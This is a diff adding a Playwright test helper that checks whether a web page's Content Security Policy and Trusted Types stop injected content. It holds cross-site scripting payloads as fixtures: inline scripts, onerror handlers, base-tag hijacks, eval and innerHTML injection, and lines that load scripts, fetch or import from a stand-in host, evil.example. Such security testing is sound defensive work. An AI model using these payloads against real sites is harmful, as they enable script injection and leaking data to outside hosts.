@@ -1,0 +1,108 @@
+import type { Page } from 'playwright/test'
+
+type Violation = { directive: string; what: string }
+
+/** What the page's policy stopped, from now on, and after every navigation. */
+export async function watchViolations(page: Page): Promise<Violation[]> {
+  const violations: Violation[] = []
+  await page.exposeFunction('toldViolation', (one: Violation) => violations.push(one))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const { effectiveDirective: directive, blockedURI, sample } = event
+      const { toldViolation } = window as unknown as { toldViolation: (one: Violation) => void }
+      toldViolation({ directive, what: sample || blockedURI })
+    })
+  })
+  return violations
+}
+
+export type Attack = { name: string; html: string; stoppedBy: string }
+
+/** Each would call `window.ran` with its name, or reach another host, if the page let it. */
+export const markupAttacks: Attack[] = [
+  {
+    name: 'an inline script',
+    html: `<script>ran('an inline script')</script>`,
+    stoppedBy: 'script-src-elem',
+  },
+  {
+    name: 'a script of another host',
+    html: `<script src="https://evil.example/x.js"></script>`,
+    stoppedBy: 'script-src-elem',
+  },
+  {
+    name: 'a script as data',
+    html: `<script src="data:text/javascript,ran('data')"></script>`,
+    stoppedBy: 'script-src-elem',
+  },
+  {
+    name: 'an event handler',
+    html: `<img src="/gone.png" onerror="ran('an event handler')">`,
+    stoppedBy: 'script-src-attr',
+  },
+  {
+    name: 'a style element',
+    html: `<style>body { background: url(https://evil.example/seen) }</style>`,
+    stoppedBy: 'style-src-elem',
+  },
+  {
+    name: 'a style attribute',
+    html: `<p style="background: url(https://evil.example/seen)">x</p>`,
+    stoppedBy: 'style-src-attr',
+  },
+  { name: 'a base', html: `<base href="https://evil.example/">`, stoppedBy: 'base-uri' },
+  {
+    name: 'a frame',
+    html: `<iframe srcdoc="<p>x</p>" src="https://evil.example/"></iframe><iframe src="/"></iframe>`,
+    stoppedBy: 'frame-src',
+  },
+  {
+    name: 'a plug-in',
+    html: `<object data="https://evil.example/x"></object>`,
+    stoppedBy: 'object-src',
+  },
+]
+
+/** Run in the page, as a script that got in would be: what each attack came to. */
+export async function scriptAttacks(): Promise<Record<string, string>> {
+  const outcomes: Record<string, string> = {}
+  async function attack(name: string, strike: () => unknown): Promise<void> {
+    try {
+      await strike()
+      outcomes[name] = 'went through'
+    } catch {
+      outcomes[name] = 'stopped'
+    }
+  }
+  const div = document.createElement('div')
+  const script = document.createElement('script')
+  const { trustedTypes } = window as unknown as {
+    trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
+  }
+  const evil = 'https://evil.example/'
+  // Not from the stack of the debugger, to which the browser allows more.
+  await new Promise((resolve) => setTimeout(resolve))
+  // biome-ignore lint/security/noGlobalEval: the point
+  await attack('eval', () => globalThis.eval('1'))
+  await attack('new Function', () => new Function('return 1')())
+  await attack('innerHTML', () => {
+    div.innerHTML = '<img src=x onerror=ran()>'
+  })
+  await attack('a script by its text', () => {
+    script.text = 'ran()'
+  })
+  await attack('a script of another host', () => {
+    script.src = `${evil}x.js`
+  })
+  await attack('a script that somebody uploaded', () => {
+    script.src = '/api/uploads/1'
+  })
+  await attack('a worker of its own', () => new Worker(URL.createObjectURL(new Blob(['']))))
+  await attack('another service worker', () =>
+    navigator.serviceWorker.register('/seed/sw.js', { scope: '/seed/' }),
+  )
+  await attack('a policy of its own', () => trustedTypes.createPolicy('mine', {}))
+  await attack('fetch', () => fetch(evil, { mode: 'no-cors' }))
+  await attack('import', () => import(/* @vite-ignore */ `${evil}x.js`))
+  return outcomes
+}
